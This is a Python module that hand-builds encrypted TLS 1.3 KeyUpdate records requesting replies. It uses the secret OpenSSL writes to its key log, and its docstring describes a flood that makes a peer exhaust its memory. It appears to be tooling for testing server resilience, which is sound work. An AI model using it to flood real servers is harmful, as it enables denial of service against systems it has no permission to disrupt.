"""TLS records that no library sends on request: KeyUpdates in a row (RFC 8446, 4.6.3).

Each KeyUpdate requests one in return, so a peer that sends many and reads nothing makes the other
side fill its memory with answers. The records are encrypted with the connection's own secret, which
OpenSSL writes to a key log.
"""

from __future__ import annotations

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.kdf.hkdf import HKDFExpand

_APPLICATION_DATA = b"\x17\x03\x03"
_HANDSHAKE = b"\x16"
_UPDATE_REQUESTED = b"\x18\x00\x00\x01\x01"


class KeyUpdates:
    """Makes all further records of a client whose connection uses TLS_AES_256_GCM_SHA384."""

    def __init__(self, context) -> None:
        """*context*: the TLS context of a connection that isn't made yet."""
        self.sent = 0  # records that OpenSSL has sent under the current key
        self._secret = b""
        context.set_keylog_callback(self._learn)

    def _learn(self, _connection, line: bytes) -> None:
        label, _, secret = line.split()
        if label == b"CLIENT_TRAFFIC_SECRET_0":
            self._secret = bytes.fromhex(secret.decode())

    def record(self) -> bytes:
        """Return the next KeyUpdate as it is sent over TCP."""
        nonce = int.from_bytes(self._expand(b"iv", 12), "big") ^ self.sent
        plain = _UPDATE_REQUESTED + _HANDSHAKE
        header = _APPLICATION_DATA + (len(plain) + 16).to_bytes(2, "big")
        sealed = AESGCM(self._expand(b"key", 32)).encrypt(nonce.to_bytes(12, "big"), plain, header)
        self._secret = self._expand(b"traffic upd", 48)
        self.sent = 0
        return header + sealed

    def _expand(self, label: bytes, length: int) -> bytes:
        """Return HKDF-Expand-Label with an empty context (RFC 8446, 7.1)."""
        full = b"tls13 " + label
        info = length.to_bytes(2, "big") + bytes([len(full)]) + full + b"\0"
        return HKDFExpand(hashes.SHA384(), length, info).derive(self._secret)
